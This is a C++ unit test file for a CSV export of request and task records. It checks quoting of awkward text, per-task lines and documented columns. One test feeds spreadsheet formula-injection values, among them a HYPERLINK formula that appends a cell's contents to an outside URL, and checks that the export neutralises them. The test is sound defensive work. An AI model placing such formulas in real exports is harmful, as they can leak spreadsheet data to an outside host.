#include "record/record_text.h"

#include <gmock/gmock.h>

#include <fstream>
#include <sstream>

#include "base/json.h"
#include "record/record_columns.h"
#include "record/synthetic_record_for_test.h"

namespace qaio {
namespace {

// Fields of one line as RFC 4180 has them.
std::vector<std::string> csv_fields(const std::string& line) {
  std::vector<std::string> fields(1);
  bool quoted = false;
  for (size_t i = 0; i < line.size(); ++i) {
    if (line[i] == '"') {
      if (quoted && i + 1 < line.size() && line[i + 1] == '"') {
        fields.back() += '"';
        ++i;
      } else {
        quoted = !quoted;
      }
    } else if (!quoted && line[i] == ',') {
      fields.emplace_back();
    } else if (quoted || line[i] != '\n') {
      fields.back() += line[i];
    }
  }
  return fields;
}

std::string field(const std::string& header, const std::string& line, const std::string& name) {
  const auto names = csv_fields(header);
  const auto values = csv_fields(line);
  EXPECT_EQ(names.size(), values.size());
  const auto at = std::ranges::find(names, name) - names.begin();
  return at < std::ssize(values) ? values[static_cast<size_t>(at)] : "no such column";
}

RunInfo run_of(std::string version) {
  RunInfo run;
  run.version = std::move(version);
  run.model = "m";
  run.threads = 4;
  return run;
}

RequestRecord awkward_record() {
  RequestRecord record = synthetic_record(3);
  while (record.tasks.size() < 2)
    record = synthetic_record(std::stoul(record.request_id.substr(10)) + 1);
  record.path = "/a,\"b\"\n\xff";
  record.input_text = "line one\r\nline, \"two\"";
  record.tasks[0].label = "正面";
  record.tasks[0].score = 0.25F;
  return record;
}

TEST(RecordText, CsvKeepsAwkwardTextsInTheirField) {
  const RequestRecord record = awkward_record();
  std::string line;
  append_csv(record, run_of("1,2"), line);
  EXPECT_EQ(field(csv_header(), line, "path"), "/a,\"b\"\n\uFFFD");
  EXPECT_EQ(field(csv_header(), line, "input_text"), record.input_text);
  EXPECT_EQ(field(csv_header(), line, "version"), "1,2");
  EXPECT_EQ(field(csv_header(), line, "threads"), "4");
  EXPECT_EQ(field(csv_header(), line, "arrived_unix_ms"), std::to_string(record.arrived_unix_ms));
  EXPECT_EQ(field(csv_header(), line, "error_code"), "");
  const auto tasks = parse_json(field(csv_header(), line, "tasks"), "tasks").value().as_array();
  ASSERT_EQ(tasks.size(), record.tasks.size());
  EXPECT_EQ(tasks[0].at("label").as_string(), "正面");
  EXPECT_EQ(tasks[0].at("score").as_double(), 0.25);
  EXPECT_EQ(tasks[1].at("prompt_tokens").as_int64(), record.tasks[1].counters.prompt_tokens);
}

// Whatever a client may have sent, a spreadsheet takes it for text; numbers stay numbers.
TEST(RecordText, NoCellOfTextIsAFormula) {
  for (const std::string text :
       {"=HYPERLINK(\"http://example.org/?\"&A1)", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
        "\uFF1D1", "\uFF0B1", "\uFF0D1", "\uFF201"}) {
    RequestRecord record = synthetic_record(3);
    record.tasks.resize(1);
    record.request_id = record.method = record.path = record.error_code = record.input_text = text;
    record.arrived_unix_ms = -1;
    record.tasks[0].task = record.tasks[0].label = record.tasks[0].output_text =
        record.tasks[0].prompt_version = text;
    RunInfo run = run_of(text);
    run.model = text;
    std::string line;
    append_csv(record, run, line);
    for (const char* name :
         {"request_id", "method", "path", "error_code", "input_text", "version", "model"})
      EXPECT_EQ(field(csv_header(), line, name), "'" + text) << name;
    EXPECT_EQ(field(csv_header(), line, "arrived_unix_ms"), "-1");
    std::string task_line;
    append_csv_tasks(record, run, task_line);
    for (const char* name :
         {"request_id", "task", "label", "output_text", "prompt_version", "version", "model"})
      EXPECT_EQ(field(csv_task_header(), task_line, name), "'" + text) << name;
  }
}

TEST(RecordText, AnotherSeparatorBeginsNoCellInATextEither) {
  RequestRecord record = synthetic_record(3);
  record.input_text = "a;=1";
  std::string line;
  append_csv(record, run_of("a\t=1"), line);
  EXPECT_THAT(line, testing::HasSubstr(",\"a;=1\","));
  EXPECT_THAT(line, testing::HasSubstr(",\"a\t=1\","));
}

TEST(RecordText, CsvOfTasksHasALineForEach) {
  const RequestRecord record = awkward_record();
  std::string lines;
  append_csv_tasks(record, run_of("1"), lines);
  EXPECT_EQ(std::ranges::count(lines, '\n'), std::ssize(record.tasks));
  const std::string first = lines.substr(0, lines.find('\n'));
  EXPECT_EQ(field(csv_task_header(), first, "task"), "sentiment");
  EXPECT_EQ(field(csv_task_header(), first, "request_id"), record.request_id);
  EXPECT_EQ(field(csv_task_header(), first, "first_token_ns"), "");
}

TEST(RecordText, AListHasTheColumnsOfRequestsButNotWhatWasSaid) {
  RequestRecord record = awkward_record();
  record.tasks[0].task = "=task";
  std::string line;
  append_csv_list(record, line);
  EXPECT_EQ(std::ranges::count(csv_list_header(), ','),
            static_cast<ptrdiff_t>(request_columns().size()));
  EXPECT_EQ(field(csv_list_header(), line, "path"), "/a,\"b\"\n\uFFFD");
  EXPECT_EQ(field(csv_list_header(), line, "status"), std::to_string(record.status));
  EXPECT_EQ(field(csv_list_header(), line, "tasks"), "'=task " + record.tasks[1].task);
  EXPECT_THAT(csv_list_header(), testing::Not(testing::HasSubstr("input_text")));
  EXPECT_THAT(line, testing::Not(testing::HasSubstr("line one")));
}

// docs/archive.md explains every column, in the order of the tables, and no other.
TEST(RecordText, EveryColumnIsDocumented) {
  std::ifstream file(std::string(QAIO_SOURCE_DIR) + "/docs/archive.md");
  ASSERT_TRUE(file.is_open());
  std::vector<std::string> requests;
  std::vector<std::string> tasks;
  std::vector<std::string>* rows = nullptr;
  for (std::string line; std::getline(file, line);) {
    if (line.starts_with("#")) {
      rows = line == "### requests" ? &requests : line == "### tasks" ? &tasks : nullptr;
    }
    if (rows == nullptr || !line.starts_with("| `")) continue;
    // one row may explain several: "| `a`, `b` | ... |"
    std::istringstream cell(line.substr(1, line.find('|', 1) - 1));
    for (std::string name; std::getline(cell, name, ',');) {
      const size_t begin = name.find('`') + 1;
      rows->push_back(name.substr(begin, name.find('`', begin) - begin));
    }
  }
  std::vector<std::string> want = {"id", "run"};
  for (const RequestColumn& column : request_columns()) want.emplace_back(column.name);
  want.insert(want.end(), {"lane", "cpu_cores", "resident_mib"});
  EXPECT_EQ(requests, want);
  want = {"id"};
  for (const TaskColumn& column : task_columns()) want.emplace_back(column.name);
  want.insert(want.end(), {"lane", "request", "position"});
  EXPECT_EQ(tasks, want);
}

}  // namespace
}  // namespace qaio
